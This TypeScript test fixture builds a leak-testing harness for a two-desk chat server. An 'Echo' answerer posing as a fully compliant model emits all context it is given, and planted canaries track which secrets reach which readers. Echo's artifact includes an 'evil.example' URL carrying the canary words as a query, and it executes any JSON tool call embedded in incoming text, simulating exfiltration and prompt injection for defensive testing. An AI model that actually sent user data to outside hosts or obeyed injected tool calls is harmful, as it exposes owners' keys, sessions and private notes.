/**
 * A server of two desks where everything that somebody might be told is known by whose it is, and an answerer that does whatever it
 * is asked: it says everything that its turn gives it, in every form in which an answerer can say something. What it is not given it cannot
 * say, and nothing else keeps it from saying it (reliability.md 66).
 */
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { inspect } from "node:util";
import type { Apps, Call, Connection, Findings } from "../../server/engine/apps-ports.js";
import type { Answerer, Ending, MemoryFile, Piece, Turn, TurnMessage } from "../../server/engine/ports.js";
import { createLog, type Log } from "../../server/log.js";
import { openTestDesk, type TestDeskOptions } from "../desk.js";
import { WIDE_LIMITS } from "../limits.js";
import { Canaries, nobody, only, type Readers } from "./canaries.js";
import { type Place, SITE } from "./echo-people.js";

export const DESKS = ["mira", "juno"] as const;
/** Everybody at a desk, its owner too. */
const at =
	(handle: string): Readers =>
	(reader) =>
		reader.endsWith(` at ${handle}`);
export const ownerOf = (handle: string): string => `owner at ${handle}`;

const PUBLIC_URL = "https://desk.example";
const DAY_MS = 24 * 60 * 60 * 1000;
const WHOLE = {
	depth: Infinity,
	showHidden: true,
	getters: true,
	maxArrayLength: null,
	maxStringLength: null,
	breakLength: Infinity,
} as const;

/** How an answer ends is chosen by whoever asks. */
export const ENDINGS = ["reply", "question", "authorise", "reject", "fail", "bare", "break", "breakTelling"] as const;
export const withEnding = (words: string, ending: (typeof ENDINGS)[number]): string => `${words} [ending: ${ending}]`;

const wordsOf = (messages: readonly TurnMessage[]): string =>
	messages.map(({ message }) => message.parts.map((part) => part.text ?? "").join("\n")).join("\n");

/** What a client of a model throws may hold what it was sent, wherever an error can hold something. */
function tellingError(all: string, words: string[]): Error {
	const told = `The model did not take this: ${words.join(" ")}\n    at ${words[0]} (file:///${words.join("/")}:1:1)\n${all}`;
	const cause = new AggregateError([new Error(told), told, { told }], told, { cause: told });
	return Object.assign(new TypeError(told, { cause }), { name: told, code: words[0], detail: { told }, errors: [told, cause] });
}

/** Does what it is told, and tells what it was given. */
class Echo implements Answerer {
	readonly name = "echo";
	readonly inProcess = true;
	readonly maySilence = true;

	constructor(private readonly canaries: Canaries) {}

	async *answer(turn: Turn): AsyncGenerator<Piece | Ending> {
		const heard = wordsOf(turn.incoming);
		const memory = await turn.memory();
		const found = await this.calls(turn, heard);
		const all = this.everything(turn, memory, found);
		const words = this.canaries.in(all).join(" ");
		yield { type: "gap", question: heard };
		for (let cut = 0; cut < all.length; cut += 4_000) yield { type: "text", text: all.slice(cut, cut + 4_000) };
		const parts = [
			{ data: { memory, found, words } as unknown as Record<string, unknown> },
			{ raw: Buffer.from(words).toString("base64"), filename: `${words.slice(0, 100)}.txt`, mediaType: "text/plain" },
			{ url: `https://evil.example/?d=${encodeURIComponent(words.slice(0, 500))}` },
		];
		yield { type: "artifact", artifactId: "context", name: words, description: words, parts };
		yield this.ending(heard, all);
	}

	private ending(heard: string, all: string): Ending {
		const asked = /\[ending: (\w+)\]\s*$/.exec(heard)?.[1];
		switch (asked) {
			case "authorise":
				return { type: "needs_authorisation", explanation: all };
			case "reject":
				return { type: "rejected", explanation: all };
			case "fail":
				return { type: "failed", explanation: all };
			case "break":
				throw new Error("The model could not be asked.");
			case "breakTelling":
				throw tellingError(all, this.canaries.in(all));
			case "bare":
				return { type: "message", parts: [{ text: all }] };
			default:
				return { type: "reply", asks: asked === "question" };
		}
	}

	/** A search for the words, a look at the calendar, and whatever the words themselves ask for. */
	private async calls(turn: Turn, heard: string): Promise<unknown[]> {
		const now = Date.now();
		const wanted: unknown[] = [
			{ tool: "webSearch", query: heard },
			{ tool: "calendar", from: now - DAY_MS, to: now + DAY_MS },
		];
		const asked = /\{.*\}/s.exec(heard)?.[0];
		try {
			if (asked) wanted.push(JSON.parse(asked));
		} catch {
			// Not a call.
		}
		const found: unknown[] = [];
		for (const call of wanted) found.push(await turn.use(call as Call));
		return found;
	}

	/** Of what the desk has said before, the watched words alone: else each answer would hold all those before it, and grow twofold. */
	private everything(turn: Turn, memory: MemoryFile[], found: unknown[]): string {
		const told = turn.history.map((line) => (line.from === "desk" ? this.canaries.in(inspect(line, WHOLE)) : line));
		return inspect({ ...turn, history: told, memory, found }, WHOLE);
	}
}

/** What reaches a search and a calendar: what it brings is for those who asked, and its address and key are for nobody. */
function watchedApps(canaries: Canaries): Apps {
	const titles = new Map<string, string>();
	return {
		connect({ kind, address, key, most }) {
			const app = kind === "ical" ? "calendar" : "search";
			return Promise.resolve({ app, kind, label: "app.example", most: most ?? "read", settings: JSON.stringify({ address, key }) });
		},
		async call<C extends Call>(call: C, connection: Connection): Promise<Findings[C["tool"]]> {
			if (call.tool === "webSearch") {
				const asker = canaries.in(call.query)[0];
				const word = asker === undefined ? "" : canaries.plantFor(asker, "what was found for");
				return [{ title: `A page ${word}`, url: `https://page.example/${word}`, text: `What it says: ${word}` }] as Findings[C["tool"]];
			}
			// Whatever may be given of it, it brings everything: what the engine leaves of that is what is looked at.
			const readable = connection.most === "read";
			const title = titles.get(connection.uid) ?? canaries.plant("a title in the calendar", readable ? at("juno") : nobody);
			titles.set(connection.uid, title);
			const now = Date.now();
			const engagements = [{ from: now, to: now + 60_000, title }];
			return {
				timeZone: "Europe/Lisbon",
				hours: { from: 9, to: 17, days: [1, 2, 3, 4, 5] },
				engagements,
			} as unknown as Findings[C["tool"]];
		},
	};
}

export interface EchoDesk extends Place {
	/** Of each owner: what opens their page, and a key of theirs. */
	owners: Record<(typeof DESKS)[number], { cookie: string; key: string }>;
	/** Keys of accounts that have desks of their own. */
	keys: { kai: string; lena: string };
	/** A word in the notes that everybody at a desk may be told. */
	notes: Record<(typeof DESKS)[number], string>;
	/** How many lines the log has. */
	logged(): number;
	close(): Promise<void>;
}

/** Breaks something of it: what the suite has to find out. */
export interface Broken extends Pick<TestDeskOptions, "driver" | "workerUrl"> {
	apps?: (apps: Apps) => Apps;
	log?: (log: Log) => Log;
}

export async function openEchoDesk(broken: Broken = {}): Promise<EchoDesk> {
	const canaries = new Canaries();
	const folder = await mkdtemp(join(tmpdir(), "client-"));
	await mkdir(join(folder, "assets"));
	for (const name of ["embed.js", "assets/chat.js"]) await writeFile(join(folder, name), "0");
	const surroundings = { SMTP_URL: "", TELEGRAM_BOT_TOKEN: "", LLM_API_KEY: "", DATABASE_URL: "" };
	const before = Object.fromEntries(Object.keys(surroundings).map((name) => [name, process.env[name]]));
	for (const name of Object.keys(surroundings)) process.env[name] = canaries.plant(`the environment's ${name}`, nobody);
	let lines = 0;
	const write = (line: string): void => {
		lines++;
		canaries.look("log", line, "a line of the log");
	};
	const careful = createLog({ level: "info", write });
	const log = broken.log?.(careful) ?? careful;
	const apps = watchedApps(canaries);
	const desk = await openTestDesk({
		...(broken.driver ? { driver: broken.driver } : {}),
		...(broken.workerUrl ? { workerUrl: broken.workerUrl } : {}),
		answerer: new Echo(canaries),
		apps: broken.apps?.(apps) ?? apps,
		clientDir: folder,
		log,
		config: { limits: WIDE_LIMITS, publicUrl: PUBLIC_URL, metrics: true },
	});
	const { engine, config, store } = desk;
	await engine.owner.createOwner({ handle: "juno", name: "Juno" });
	for (const handle of ["kai", "lena"]) await engine.owner.createOwner({ handle, name: handle });
	const { port } = await desk.serve();
	// As others reach it: then no page of it has a reason to name the machine.
	config.publicUrl = PUBLIC_URL;
	canaries.guard(desk.dir, "the folder of the data", only("log"));
	canaries.guard((await store.read.secret("seal")) ?? "", "the secret that seals tokens", nobody);

	const furnish = async (handle: (typeof DESKS)[number]) => {
		const { owner, presets } = engine;
		const mine = only(ownerOf(handle));
		const secret = (what: string): string => canaries.plant(`${what} of ${handle}`, nobody);
		await owner.setSite(handle, SITE, "allowed");
		await owner.setSite(handle, `https://${canaries.plant(`an allowed site of ${handle}`, mine)}.example`, "allowed");
		await owner.setSite(handle, `https://${canaries.plant(`a blocked site of ${handle}`, mine)}.example`, "blocked");
		const waiting = `https://${canaries.plant(`a site that waits at ${handle}`, only(ownerOf(handle), "its visitor"))}.example`;
		canaries.look("its visitor", await (await desk.app.request(`/embed/${handle}`, { headers: { origin: waiting } })).text(), "its config");
		await owner.saveEmbed(handle, { mode: "floating", name: canaries.plant(`what an embed of ${handle} is called`, mine) });
		const note = canaries.plant(`the notes of ${handle}`, at(handle));
		await owner.putMemory(handle, "hours.md", `# Hours\n\nOpen from nine to five. ${note}`);
		await presets.connectApp(handle, {
			kind: "ical",
			address: `https://calendar.example/${secret("the calendar's address")}/basic.ics`,
			most: handle === "mira" ? "busy" : "read",
		});
		await presets.connectApp(handle, { kind: "brave", key: secret("the search's key") });
		await presets.change(handle, { apps: { calendar: handle === "mira" ? "busy" : "read" } });
		for (const { uid } of await presets.approvals(handle)) await presets.decide(handle, uid, "approved");
		const key = await owner.createKey(handle, canaries.plant(`the name of a key of ${handle}`, mine));
		canaries.guard(key, `a key of ${handle}'s owner`, nobody);
		canaries.guard(await owner.createSignIn(handle), `a sign-in link of ${handle}'s owner`, nobody);
		const session = (await owner.signIn(await owner.createSignIn(handle))) ?? "";
		canaries.guard(session, `the session of ${handle}'s owner`, nobody);
		return { cookie: `__Host-eol_session=${session}`, key, note };
	};
	const owners = { mira: await furnish("mira"), juno: await furnish("juno") };
	const keyOf = async (handle: string): Promise<string> => {
		const key = await engine.owner.createKey(handle, "key");
		canaries.guard(key, `the key of ${handle}`, nobody);
		return key;
	};
	return {
		desk,
		port,
		canaries,
		owners,
		keys: { kai: await keyOf("kai"), lena: await keyOf("lena") },
		notes: { mira: owners.mira.note, juno: owners.juno.note },
		logged: () => lines,
		async close() {
			await desk.close();
			await rm(folder, { recursive: true, force: true });
			for (const [name, value] of Object.entries(before)) {
				if (value === undefined) delete process.env[name];
				else process.env[name] = value;
			}
		},
	};
}
